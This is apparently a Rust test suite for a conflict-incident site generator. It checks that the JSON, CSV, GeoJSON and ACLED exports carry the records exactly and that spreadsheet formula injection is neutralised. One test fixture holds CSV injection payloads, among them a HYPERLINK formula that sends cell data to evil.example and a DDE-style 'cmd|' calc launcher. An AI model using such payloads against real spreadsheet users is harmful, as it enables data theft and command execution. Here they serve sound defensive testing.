//! Data exports (issues 14 and 15): every export carries the whole model, one row per
//! published incident, parsed here with `csv` and `serde_json` and compared with the records
//! as written; CSV cells a spreadsheet would run as formulas are neutralised in every CSV, and
//! the ACLED file still round-trips exactly.

use std::collections::BTreeMap;
use std::path::Path;

use crate::support::{SiteTest, copy_dir};
use briefwerk::codec::acled::ACLED_COLUMNS;
use briefwerk::import::import_acled;
use briefwerk::render::export::{ACLED_FILE, COLUMNS};
use serde_json::{Value, json};

/// The repository's example site (or only its site.yaml and groups) in a temporary directory.
fn example(groups_only: bool) -> SiteTest {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("site");
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    std::fs::create_dir_all(root.join("content/incidents")).unwrap();
    std::fs::copy(repo.join("site.yaml"), root.join("site.yaml")).unwrap();
    if groups_only {
        // The profiles without their bodies, whose `@incident` links need the example's
        // incidents.
        copy_dir(&repo.join("content/groups"), &root.join("content/groups"));
        for e in std::fs::read_dir(root.join("content/groups")).unwrap() {
            let p = e.unwrap().path();
            let text = std::fs::read_to_string(&p).unwrap();
            let end = text[3..].find("\n---").unwrap() + 3 + 4;
            std::fs::write(&p, format!("{}\n", &text[..end])).unwrap();
        }
    } else {
        copy_dir(&repo.join("content"), &root.join("content"));
    }
    let out = dir.path().join("out");
    SiteTest { dir, root, out }
}

fn read(t: &SiteTest, rel: &str) -> Vec<u8> {
    std::fs::read(t.out.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

/// Header and rows of a CSV, each row by column name; the raw cells too.
fn csv_rows(bytes: &[u8]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let mut r = csv::Reader::from_reader(bytes);
    let headers: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    let rows = r
        .records()
        .map(|rec| {
            let rec = rec.expect("RFC 4180 row");
            assert_eq!(rec.len(), headers.len());
            headers
                .iter()
                .cloned()
                .zip(rec.iter().map(str::to_string))
                .collect()
        })
        .collect();
    (headers, rows)
}

fn json(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).expect("valid JSON")
}

/// An incident with every field the content format has today, written by hand.
const FULL: &str = r#"---
title: "Full record"
date: "2017-05-14"
end_date: "2017-05-15"
location:
  place: "Boni"
  admin1: "Mopti"
  country: ML
  lat: 15.033333
  lon: -2.216667
  precision: exact
groups:
  - id: jnim
    attribution: claimed
    claim_date: "2017-05-16"
    claim_medium: statement
  - {id: isgs, attribution: suspected}
  - {id: aqim, attribution: disputed}
attribution: claimed
event_type: ambush
targets: ["Malian armed forces", "civilians"]
casualties:
  killed: {min: 10, max: 12}
  wounded: unknown
  captured: {min: 2}
  attackers_killed: 4
tags: [convoy, mopti]
summary: "A convoy was ambushed near Boni."
sources:
  - {title: "Convoy ambushed", url: "https://e.org/a", publisher: "Wire", date: "2017-05-15"}
  - {title: "A print source"}
---
Body.
"#;

#[test]
fn incidents_json_csv_and_geojson_carry_the_record_as_written() {
    let t = example(true);
    t.write("content/incidents/2017-05-14-full.md", FULL);
    t.write(
        "content/incidents/2017-08-late.md",
        "---\ntitle: Late\ndate: \"2017-08\"\nlocation: {country: BF}\nsources: [{title: S}]\n---\n",
    );
    t.build().expect("builds");
    let list = json(&read(&t, "data/incidents.json"));
    let list = list.as_array().unwrap();
    assert_eq!(list.len(), 2);
    let full = &list[0];
    assert_eq!(
        full,
        &json!({
            "id": "2017-05-14-full",
            "title": "Full record",
            "date": "2017-05-14",
            "end_date": "2017-05-15",
            "date_precision": "day",
            "event_type": "ambush",
            "attribution": "claimed",
            "claims": null,
            "groups": [
                {"id": "jnim", "name": "Jama'at Nusrat al-Islam wal-Muslimin", "attribution": "claimed",
                 "claim_date": "2017-05-16", "claim_medium": "statement",
                 "claimed_killed": null, "claimed_wounded": null, "claimed_captured": null},
                {"id": "isgs", "name": "Islamic State in the Greater Sahara", "attribution": "suspected",
                 "claim_date": null, "claim_medium": null,
                 "claimed_killed": null, "claimed_wounded": null, "claimed_captured": null},
                {"id": "aqim", "name": "Al-Qaeda in the Islamic Maghreb", "attribution": "disputed",
                 "claim_date": null, "claim_medium": null,
                 "claimed_killed": null, "claimed_wounded": null, "claimed_captured": null}
            ],
            "location": {"place": "Boni", "admin1": "Mopti", "admin2": null, "country": "ML",
                         "country_name": "Mali", "lat": 15.033333, "lon": -2.216667, "precision": "exact"},
            "targets": [
                {"actor": "Malian armed forces", "kind": null, "group": null},
                {"actor": "civilians", "kind": null, "group": null}
            ],
            "casualties": {
                "killed": {"min": 10, "max": 12, "unknown": false},
                "wounded": {"min": null, "max": null, "unknown": true},
                "captured": {"min": 2, "max": null, "unknown": false},
                "attackers_killed": {"min": 4, "max": 4, "unknown": false},
                "fatalities": null
            },
            "tags": ["convoy", "mopti"],
            "summary": "A convoy was ambushed near Boni.",
            "sources": [
                {"title": "Convoy ambushed", "url": "https://e.org/a", "publisher": "Wire", "date": "2017-05-15"},
                {"title": "A print source", "url": null, "publisher": null, "date": null}
            ],
            "after_cutoff": false,
            "same_event_as": null,
            "distinct_from": [],
            "url": "https://example.org/sahel/incidents/2017-05-14-full/",
            "schema_version": 2
        })
    );
    // Dated after the site's data_cutoff (2017-06-30): published, and says so.
    assert_eq!(list[1]["after_cutoff"], true);
    assert_eq!(list[1]["date_precision"], "month");
    assert_eq!(list[1]["location"]["precision"], "country");

    let (header, rows) = csv_rows(&read(&t, "data/incidents.csv"));
    assert_eq!(header, COLUMNS);
    assert_eq!(rows.len(), 2);
    let r = &rows[0];
    for (col, want) in [
        ("event_id", "2017-05-14-full"),
        ("event_date", "2017-05-14"),
        ("date_precision", "day"),
        ("end_date", "2017-05-15"),
        ("actor_ids", "jnim; isgs; aqim"),
        ("groups_claimed", "jnim"),
        ("groups_suspected", "isgs"),
        ("groups_disputed", "aqim"),
        ("claim_dates", "jnim=2017-05-16"),
        ("claim_media", "jnim=statement"),
        ("admin1", "Mopti"),
        ("location", "Boni"),
        ("latitude", "15.033333"),
        ("longitude", "-2.216667"),
        ("location_precision", "exact"),
        ("killed_min", "10"),
        ("killed_max", "12"),
        ("wounded_unknown", "true"),
        ("captured_min", "2"),
        ("captured_max", ""),
        ("attackers_killed_min", "4"),
        ("attackers_killed_max", "4"),
        ("attackers_killed_unknown", "false"),
        ("fatalities_min", ""),
        ("targets", "Malian armed forces; civilians"),
        ("sources", "https://e.org/a; A print source"),
        ("after_cutoff", "false"),
        ("schema_version", "2"),
    ] {
        assert_eq!(r[col], want, "column {col}");
    }
    assert_eq!(rows[1]["after_cutoff"], "true");
    assert_eq!(rows[1]["date_precision"], "month");
    assert!(!header.iter().any(|h| h == "time_precision"));

    // GeoJSON: every published incident, the unlocated one with a null geometry (RFC 7946
    // §3.2), properties exactly the JSON record.
    let geo = json(&read(&t, "data/incidents.geojson"));
    let features = geo["features"].as_array().unwrap();
    assert_eq!(features.len(), 2);
    assert_eq!(
        features[0]["geometry"],
        json!({"type": "Point", "coordinates": [-2.216667, 15.033333]})
    );
    assert_eq!(features[0]["properties"], *full);
    assert!(features[1]["geometry"].is_null());
    assert_eq!(features[1]["id"], "2017-08-late");
    // The per-group and per-country copies hold the same records.
    for (dir, ids) in [
        ("groups/jnim/", vec!["2017-05-14-full"]),
        ("groups/aqim/", vec!["2017-05-14-full"]),
        ("countries/bf/", vec!["2017-08-late"]),
    ] {
        let l = json(&read(&t, &format!("{dir}incidents.json")));
        let got: Vec<&str> = l
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["id"].as_str().unwrap())
            .collect();
        assert_eq!(got, ids, "{dir}");
        let g = json(&read(&t, &format!("{dir}incidents.geojson")));
        assert_eq!(g["features"].as_array().unwrap().len(), ids.len(), "{dir}");
        let (h, rows) = csv_rows(&read(&t, &format!("{dir}incidents.csv")));
        assert_eq!(h, COLUMNS);
        assert_eq!(rows.len(), ids.len(), "{dir}");
    }
}

#[test]
fn every_export_of_the_example_site_has_one_row_per_published_incident() {
    let t = example(false);
    let report = t.build().expect("builds");
    let (_, rows) = csv_rows(&read(&t, "data/incidents.csv"));
    let list = json(&read(&t, "data/incidents.json"));
    let list = list.as_array().unwrap();
    let geo = json(&read(&t, "data/incidents.geojson"));
    let features = geo["features"].as_array().unwrap();
    let (_, acled) = csv_rows(&read(&t, ACLED_FILE));
    assert_eq!(rows.len(), report.incidents);
    assert_eq!(list.len(), report.incidents);
    assert_eq!(features.len(), report.incidents);
    assert_eq!(acled.len(), report.incidents);
    assert!(
        features.iter().any(|f| f["geometry"].is_null()),
        "the example site has an incident without coordinates"
    );
    for ((row, o), f) in rows.iter().zip(list).zip(features) {
        assert_eq!(row["event_id"], o["id"].as_str().unwrap());
        assert_eq!(f["id"], o["id"]);
        // The flat CSV says what the nested JSON says.
        let ids: Vec<&str> = o["groups"]
            .as_array()
            .unwrap()
            .iter()
            .map(|g| g["id"].as_str().unwrap())
            .collect();
        assert_eq!(row["actor_ids"], ids.join("; "));
        for fig in ["killed", "wounded", "captured", "attackers_killed"] {
            let v = &o["casualties"][fig];
            let cell = |k: &str| match &v[k] {
                Value::Number(n) => n.to_string(),
                _ => String::new(),
            };
            assert_eq!(row[&format!("{fig}_min")], cell("min"), "{fig}");
            assert_eq!(row[&format!("{fig}_max")], cell("max"), "{fig}");
            assert_eq!(
                row[&format!("{fig}_unknown")],
                (v["unknown"] == true).to_string()
            );
        }
        assert_eq!(row["date_precision"], o["date_precision"].as_str().unwrap());
        assert_eq!(
            row["location_precision"],
            o["location"]["precision"].as_str().unwrap()
        );
    }
}

#[test]
fn groups_json_carries_typed_dated_relationships_both_ways() {
    let t = example(false);
    t.build().expect("builds");
    let groups = json(&read(&t, "data/groups.json"));
    let by_id: BTreeMap<&str, &Value> = groups
        .as_array()
        .unwrap()
        .iter()
        .map(|g| (g["id"].as_str().unwrap(), g))
        .collect();
    let rel = |g: &str, other: &str| -> Value {
        by_id[g]["relationships"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["group"] == other)
            .cloned()
            .unwrap_or_else(|| panic!("{g} has no relationship with {other}"))
    };
    // Written in al-mulathamun's file: `splinter_of aqim from 2012-12`.
    let own = rel("al-mulathamun", "aqim");
    assert_eq!(
        (&own["kind"], &own["inverse"], &own["label"], &own["from"]),
        (
            &json!("splinter_of"),
            &json!(false),
            &json!("splinter of"),
            &json!("2012-12")
        )
    );
    assert!(
        own["sources"][0]["url"]
            .as_str()
            .unwrap()
            .starts_with("https://")
    );
    // And read from the other side on AQIM's record.
    let back = rel("aqim", "al-mulathamun");
    assert_eq!(
        (
            &back["kind"],
            &back["inverse"],
            &back["label"],
            &back["from"]
        ),
        (
            &json!("splinter_of"),
            &json!(true),
            &json!("splinter group"),
            &json!("2012-12")
        )
    );
    assert_eq!(
        by_id["jnim"]["acled_actor"],
        "JNIM: Group for Support of Islam and Muslims"
    );
    assert_eq!(by_id["jnim"]["inter"], 2);
    assert_eq!(by_id["jnim"]["schema_version"], 2);
}

/// Hostile cells, one per OWASP formula character, an apostrophe of the value's own, and a
/// negative coordinate that must stay a number.
const HOSTILE: &str = r#"---
title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
date: "2017-05-20"
location:
  place: "@SUM(1+1)*cmd|' /C calc'!A0"
  admin1: "+cmd"
  country: ML
  lat: 12.65
  lon: -7.25
groups: [jnim]
attribution: claimed
targets: ["-2+3+cmd", "'quoted by the analyst", "\tTabbed", "\rReturn"]
tags: [hostile]
summary: "-- dashes first"
sources:
  - {title: "=1+1", publisher: "@publisher", url: "https://e.org/x"}
---
"#;

/// Every cell of a CSV whose first character a spreadsheet would act on, unless it is a plain
/// number.
fn live_formulas(bytes: &[u8]) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let mut bad = Vec::new();
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            let number = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
                bad.push(cell.to_string());
            }
        }
    }
    bad
}

#[test]
fn formula_cells_are_neutralised_in_every_csv_and_the_acled_round_trip_stays_exact() {
    let first = example(true);
    first.write("content/incidents/2017-05-20-hostile.md", HOSTILE);
    first.write("content/incidents/2017-05-14-full.md", FULL);
    first.build().expect("builds");
    for f in [
        "data/incidents.csv",
        ACLED_FILE,
        "groups/jnim/incidents.csv",
        "countries/ml/incidents.csv",
    ] {
        let bytes = read(&first, f);
        assert_eq!(live_formulas(&bytes), Vec::<String>::new(), "{f}");
    }
    let (_, rows) = csv_rows(&read(&first, "data/incidents.csv"));
    let h = rows
        .iter()
        .find(|r| r["event_id"] == "2017-05-20-hostile")
        .unwrap();
    assert_eq!(
        h["title"],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(h["location"], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(h["admin1"], "'+cmd");
    assert_eq!(h["summary"], "'-- dashes first");
    assert_eq!(
        h["targets"],
        "'-2+3+cmd; 'quoted by the analyst; \tTabbed; \rReturn"
    );
    // Numbers stay numbers.
    assert_eq!(
        (h["latitude"].as_str(), h["longitude"].as_str()),
        ("12.65", "-7.25")
    );
    let (header, acled) = csv_rows(&read(&first, ACLED_FILE));
    assert_eq!(header, ACLED_COLUMNS);
    let a = acled
        .iter()
        .find(|r| r["tags"].contains("id=2017-05-20-hostile"))
        .unwrap();
    assert_eq!(a["admin1"], "'+cmd");
    assert_eq!(a["notes"], "'-- dashes first");
    assert_eq!(a["source"], "'@publisher");
    assert_eq!(a["longitude"], "-7.25");
    // The JSON carries the values as written: it is not for spreadsheets.
    let list = json(&read(&first, "data/incidents.json"));
    let hj = list
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["id"] == "2017-05-20-hostile")
        .unwrap()
        .clone();
    assert_eq!(hj["location"]["admin1"], "+cmd");

    // Imported into a site with only the groups, the records come back exactly: the importer
    // removes what the exporter added, and nothing else.
    let second = example(true);
    let path = second.dir.path().join("acled.csv");
    std::fs::write(&path, read(&first, ACLED_FILE)).unwrap();
    let report = import_acled(&second.root, &path, Path::new("content/incidents")).unwrap();
    assert!(report.malformed.is_empty(), "{:?}", report.malformed);
    assert_eq!(report.created, 2);
    second.build().expect("imported site builds");
    let (a, b) = (read(&first, ACLED_FILE), read(&second, ACLED_FILE));
    let (a, b) = (String::from_utf8_lossy(&a), String::from_utf8_lossy(&b));
    for (x, y) in a.split("\r\n").zip(b.split("\r\n")) {
        assert_eq!(x, y, "acled.csv changed in the round trip");
    }
    assert_eq!(a, b);
    let again = json(&read(&second, "data/incidents.json"));
    let hj2 = again
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["id"] == "2017-05-20-hostile")
        .unwrap();
    assert_eq!(hj2, &hj);
    assert_eq!(
        hj2["title"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(hj2["targets"][1]["actor"], "'quoted by the analyst");
}

/// The keys of a JSON object in the order written (serde_json's `Value` sorts them).
struct Keys(Vec<String>);

impl<'de> serde::Deserialize<'de> for Keys {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Keys, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = Keys;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("an object")
            }
            fn visit_map<A: serde::de::MapAccess<'de>>(self, mut m: A) -> Result<Keys, A::Error> {
                let mut keys = Vec::new();
                while let Some(k) = m.next_key::<String>()? {
                    let _: serde::de::IgnoredAny = m.next_value()?;
                    keys.push(k);
                }
                Ok(Keys(keys))
            }
        }
        d.deserialize_map(V)
    }
}

/// Whether a CSV cell or JSON value fits a Table Schema field (type and constraints).
fn fits(field: &Value, v: &Value) -> Result<(), String> {
    let c = &field["constraints"];
    let missing = v.is_null() || v == "";
    if missing {
        return if c["required"] == true {
            Err("required but empty".into())
        } else {
            Ok(())
        };
    }
    // A CSV cell is text; read it as the field's type.
    let typed = match (field["type"].as_str().unwrap(), v) {
        ("integer", Value::String(s)) => s
            .parse::<i64>()
            .map(Value::from)
            .map_err(|_| "not an integer")?,
        ("number", Value::String(s)) => s
            .parse::<f64>()
            .map(Value::from)
            .map_err(|_| "not a number")?,
        ("boolean", Value::String(s)) => match s.as_str() {
            "true" => Value::Bool(true),
            "false" => Value::Bool(false),
            _ => return Err("not a boolean".into()),
        },
        ("date", Value::String(s)) => {
            chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d").map_err(|_| "not a date")?;
            v.clone()
        }
        ("integer", Value::Number(n)) if n.is_i64() || n.is_u64() => v.clone(),
        ("number", Value::Number(_))
        | ("boolean", Value::Bool(_))
        | ("string", Value::String(_)) => v.clone(),
        ("array", Value::Array(_)) | ("object", Value::Object(_)) => v.clone(),
        (t, v) => return Err(format!("{v} is not of type {t}")),
    };
    if let Some(allowed) = c["enum"].as_array()
        && !allowed.contains(&typed)
    {
        return Err(format!("{typed} is not one of {allowed:?}"));
    }
    for (k, ok) in [("minimum", true), ("maximum", false)] {
        if let (Some(bound), Some(x)) = (c[k].as_f64(), typed.as_f64())
            && (if ok { x < bound } else { x > bound })
        {
            return Err(format!("{x} is beyond {k} {bound}"));
        }
    }
    Ok(())
}

#[test]
fn every_export_file_and_column_is_described_by_its_datapackage_in_order() {
    let t = example(false);
    t.build().expect("builds");
    let mut packages = vec!["data/".to_string()];
    for kind in ["groups", "countries"] {
        for e in std::fs::read_dir(t.out.join(kind)).unwrap() {
            let e = e.unwrap();
            if e.path().join("incidents.csv").is_file() {
                packages.push(format!("{kind}/{}/", e.file_name().to_string_lossy()));
            }
        }
    }
    let mut described = 0;
    for dir in &packages {
        let p = json(&read(&t, &format!("{dir}datapackage.json")));
        assert!(
            p["name"]
                .as_str()
                .unwrap()
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-._".contains(&b)),
            "{dir}: package name"
        );
        let listed: Vec<&str> = p["resources"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["path"].as_str().unwrap())
            .collect();
        // Every export file of the folder is listed, and every listed file exists.
        let mut present: Vec<String> = std::fs::read_dir(t.out.join(dir))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| {
                (n.ends_with(".csv") || n.ends_with(".json") || n.ends_with(".geojson"))
                    && n != "datapackage.json"
            })
            .collect();
        present.sort();
        let mut want: Vec<String> = listed.iter().map(|s| s.to_string()).collect();
        want.sort();
        assert_eq!(present, want, "{dir}: files and resources differ");
        for r in p["resources"].as_array().unwrap() {
            let path = format!("{dir}{}", r["path"].as_str().unwrap());
            let bytes = read(&t, &path);
            described += 1;
            let schema = match r["name"].as_str().unwrap() {
                // The GeoJSON's properties follow the JSON record's schema.
                "incidents-geojson" => {
                    let geo = json(&bytes);
                    let list: Vec<Value> = geo["features"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|f| f["properties"].clone())
                        .collect();
                    let json_res = p["resources"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .find(|r| r["name"] == "incidents-json")
                        .unwrap();
                    let fields = json_res["schema"]["fields"].as_array().unwrap();
                    let names: Vec<&str> =
                        fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
                    #[derive(serde::Deserialize)]
                    struct Collection {
                        features: Vec<Feature>,
                    }
                    #[derive(serde::Deserialize)]
                    struct Feature {
                        properties: Keys,
                    }
                    let keys: Collection = serde_json::from_slice(&bytes).unwrap();
                    assert_eq!(keys.features.len(), list.len());
                    for (n, (o, k)) in list.iter().zip(&keys.features).enumerate() {
                        assert_eq!(k.properties.0, names, "{path}: feature {n} keys");
                        for f in fields {
                            fits(f, &o[f["name"].as_str().unwrap()]).unwrap_or_else(|e| {
                                panic!("{path} feature {n} {}: {e}", f["name"])
                            });
                        }
                    }
                    continue;
                }
                _ => &r["schema"],
            };
            let fields = schema["fields"].as_array().unwrap();
            let names: Vec<&str> = fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
            match r["format"].as_str().unwrap() {
                "csv" => {
                    let (header, rows) = csv_rows(&bytes);
                    assert_eq!(header, names, "{path}: columns");
                    for (n, row) in rows.iter().enumerate() {
                        for f in fields {
                            let name = f["name"].as_str().unwrap();
                            fits(f, &Value::String(row[name].clone()))
                                .unwrap_or_else(|e| panic!("{path} row {n} {name}: {e}"));
                        }
                    }
                }
                "json" => {
                    let keys: Vec<Keys> = serde_json::from_slice(&bytes).unwrap();
                    let list = json(&bytes);
                    for (n, (k, o)) in keys.iter().zip(list.as_array().unwrap()).enumerate() {
                        assert_eq!(k.0, names, "{path}: record {n} keys");
                        for f in fields {
                            let name = f["name"].as_str().unwrap();
                            fits(f, &o[name])
                                .unwrap_or_else(|e| panic!("{path} record {n} {name}: {e}"));
                        }
                    }
                }
                other => panic!("{path}: format {other}"),
            }
        }
    }
    // data/ has five files; each group and country folder three.
    assert_eq!(described, 5 + 3 * (packages.len() - 1));
}

/// A record with every field of issue 15's model, a second record that repeats it, a third
/// said to be distinct.
const MODEL: [(&str, &str); 3] = [
    (
        "content/incidents/2016-01-15-joint.md",
        r#"---
title: "Joint claim"
date: "2016-01-15"
location: {place: "Boni", admin1: "Mopti", admin2: "Douentza", country: ML}
groups:
  - {id: aqim, attribution: claimed, claim_date: "2016-01-16", claim_medium: statement, claimed_killed: 30, claimed_wounded: {min: 50}}
  - {id: al-mourabitoun, attribution: claimed}
claims: joint
targets:
  - civilians
  - {actor: "Malian armed forces", kind: state_forces}
  - {actor: "MNLA fighters", kind: rebels, group: mnla}
casualties: {killed: 5, attackers_killed: {min: 2}, fatalities: 9}
sources: [{title: S}]
---
"#,
    ),
    (
        "content/incidents/2016-01-15-joint-again.md",
        "---\ntitle: Joint claim, second report\ndate: \"2016-01-15\"\nlocation: {place: Boni, admin1: Mopti, country: ML}\n\
         groups: [{id: aqim, attribution: suspected}]\nsame_event_as: 2016-01-15-joint\n\
         casualties: {killed: 4, attackers_killed: 3}\nsources: [{title: S}]\n---\n",
    ),
    (
        "content/incidents/2016-01-16-other.md",
        "---\ntitle: Another attack\ndate: \"2016-01-16\"\nlocation: {admin1: Mopti, country: ML}\n\
         groups: [{id: aqim, attribution: suspected}]\ndistinct_from: [2016-01-15-joint]\n\
         casualties: {fatalities: {min: 3, max: 4}}\nsources: [{title: S}]\n---\n",
    ),
];

#[test]
fn the_new_model_fields_reach_every_export_and_survive_the_acled_round_trip() {
    let first = example(true);
    for (path, text) in MODEL {
        first.write(path, text);
    }
    let report = first.build().expect("builds");
    assert!(
        !report
            .warnings
            .0
            .iter()
            .any(|w| w.code == "possible-duplicate"),
        "{:?}",
        report.warnings
    );
    let list = json(&read(&first, "data/incidents.json"));
    let by_id = |id: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|o| o["id"] == id)
            .unwrap()
            .clone()
    };
    let j = by_id("2016-01-15-joint");
    assert_eq!(j["claims"], "joint");
    assert_eq!(
        j["groups"][0]["claimed_killed"],
        json!({"min": 30, "max": 30, "unknown": false})
    );
    assert_eq!(
        j["groups"][0]["claimed_wounded"],
        json!({"min": 50, "max": null, "unknown": false})
    );
    assert_eq!(
        j["targets"],
        json!([
            {"actor": "civilians", "kind": null, "group": null},
            {"actor": "Malian armed forces", "kind": "state_forces", "group": null},
            {"actor": "MNLA fighters", "kind": "rebels", "group": "mnla"}
        ])
    );
    assert_eq!(
        j["casualties"]["fatalities"],
        json!({"min": 9, "max": 9, "unknown": false})
    );
    assert_eq!(j["location"]["admin2"], "Douentza");
    assert_eq!(
        by_id("2016-01-15-joint-again")["same_event_as"],
        "2016-01-15-joint"
    );
    assert_eq!(
        by_id("2016-01-16-other")["distinct_from"],
        json!(["2016-01-15-joint"])
    );

    let (_, rows) = csv_rows(&read(&first, "data/incidents.csv"));
    let r = rows
        .iter()
        .find(|r| r["event_id"] == "2016-01-15-joint")
        .unwrap();
    for (col, want) in [
        ("claims", "joint"),
        ("groups_claimed", "aqim; al-mourabitoun"),
        ("claimed_killed", "aqim=30"),
        ("claimed_wounded", "aqim=50+"),
        ("claim_dates", "aqim=2016-01-16"),
        ("admin2", "Douentza"),
        ("targets", "civilians; Malian armed forces; MNLA fighters"),
        ("target_kinds", "rebels; state_forces"),
        ("target_groups", "mnla"),
        ("fatalities_min", "9"),
        ("killed_min", "5"),
    ] {
        assert_eq!(r[col], want, "column {col}");
    }
    let again = rows
        .iter()
        .find(|r| r["event_id"] == "2016-01-15-joint-again")
        .unwrap();
    assert_eq!(again["same_event_as"], "2016-01-15-joint");

    // ACLED: fatalities is the all-deaths figure when given (9, not 5 + 2), else the
    // victims' lower bound plus the attackers' (4 + 3), else that of the figure alone (3).
    let (_, acled) = csv_rows(&read(&first, ACLED_FILE));
    let a = |id: &str| {
        acled
            .iter()
            .find(|r| r["event_id_cnty"] == id)
            .unwrap()
            .clone()
    };
    let joint = a("2016-01-15-joint");
    assert_eq!(joint["fatalities"], "9");
    assert_eq!(a("2016-01-15-joint-again")["fatalities"], "7");
    assert_eq!(a("2016-01-16-other")["fatalities"], "3");
    // The typed targets are ACLED's actor 2 and its associates; MNLA by its own name.
    assert_eq!(
        (
            joint["actor2"].as_str(),
            joint["inter2"].as_str(),
            joint["admin2"].as_str()
        ),
        ("Malian armed forces", "1", "Douentza")
    );
    assert_eq!(
        joint["assoc_actor_2"],
        "National Movement for the Liberation of Azawad"
    );
    assert_eq!(joint["civilian_targeting"], "Civilian targeting");

    // Imported into a site with only the groups, every record comes back as it was.
    let second = example(true);
    let path = second.dir.path().join("acled.csv");
    std::fs::write(&path, read(&first, ACLED_FILE)).unwrap();
    let r = import_acled(&second.root, &path, Path::new("content/incidents")).unwrap();
    assert!(r.malformed.is_empty(), "{:?}", r.malformed);
    second.build().expect("imported site builds");
    assert_eq!(
        json(&read(&second, "data/incidents.json")),
        list,
        "incidents.json changed in the round trip"
    );
    assert!(
        read(&second, ACLED_FILE) == read(&first, ACLED_FILE),
        "acled.csv changed in the round trip"
    );
}
